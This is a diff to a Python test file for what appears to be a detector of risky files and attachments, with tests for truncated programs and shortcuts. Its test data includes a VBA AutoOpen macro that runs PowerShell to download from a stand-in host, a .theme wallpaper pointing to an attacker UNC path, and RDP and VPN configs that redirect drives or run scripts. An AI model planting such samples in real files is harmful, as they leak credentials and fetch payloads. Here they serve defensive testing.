@@ -204,7 +204,7 @@ def test_f13_a_windows_shortcut(content: bytes, words: str) -> None:
         ("docs.searchConnector-ms", b"<x><url>https://evil.example/dav</url></x>", 6),
         ("office.rdp", b"full address:s:gate.office.example\r\n", 5),
         ("office.rdp", "full address:s:evil.example\r\ndrivestoredirect:s:*\r\n".encode("utf-16"), 6),
-        ("nice.theme", b"[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\evil.example\\a.jpg\r\n", 6),
+        ("nice.theme", b"[Theme]\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\evil.example\\a.jpg\r\n", 6),
     ],
 )  # fmt: skip
 def test_f13_small_files_that_lead_elsewhere(name: str, content: bytes, weight: int) -> None:
@@ -241,7 +241,7 @@ def test_the_link_in_a_shortcut_can_be_judged_like_any_link() -> None:
         ("work.ovpn", b"client\nremote vpn.office.example 1194\n", 3),
         ("work.ovpn", b"client\nremote vpn.office.example 1194\nscript-security 2\nup /tmp/x.sh\n", 6),
         ("module.vba", b"Sub AutoOpen()\r\nMsgBox 1\r\nEnd Sub", 1),
-        ("module.vba", b"Sub AutoOpen()\r\nShell \"powershell iwr https://x.example -OutFile a\"\r\nEnd Sub", 3),
+        ("module.vba", b'Sub AutoOpen()\r\nShell "powershell iwr https://x.example -OutFile a"\r\nEnd Sub', 3),
         ("a.chm", b"ITSF" + bytes(20), 6),
         ("a", linux_program(), 5),
     ],
@@ -289,17 +289,14 @@ def test_f25_what_nobody_here_knows_is_told() -> None:
     assert "sealed" in said(found_in("a.asc", b"-----BEGIN PGP MESSAGE-----\n\nabc\n"), "F25")
 
 
-@pytest.mark.parametrize("size", range(0, 600, 7))
-def test_no_cut_off_file_stops_the_looks(size: int) -> None:
-    whole = (
-        png(behind=ZIP),
-        jpeg(behind=ZIP),
-        gif(),
-        bmp(),
-        windows_program(),
-        shortcut("x"),
-        linux_program(),
-        installer(),
-    )
-    for content in whole:
-        assert not any("could not finish" in finding.evidence for finding in found_in("a.jpg", content[:size]))
+@pytest.mark.parametrize("whole", [png(behind=ZIP), jpeg(behind=ZIP), gif(), bmp(), linux_program(), installer()])
+def test_no_cut_off_file_stops_the_looks(whole: bytes) -> None:
+    for size in range(0, min(600, len(whole)), 17):
+        found = found_in("a.jpg", whole[:size])
+        assert not any("could not finish" in finding.evidence for finding in found)
+
+
+@pytest.mark.parametrize(("name", "whole"), [("a.exe", windows_program()), ("a.lnk", shortcut("x"))])
+def test_a_cut_off_program_or_shortcut_is_grave_all_the_same(name: str, whole: bytes) -> None:
+    for size in range(20, 300, 17):
+        assert {"F13", "F16"} & weighty(found_in(name, whole[:size]))
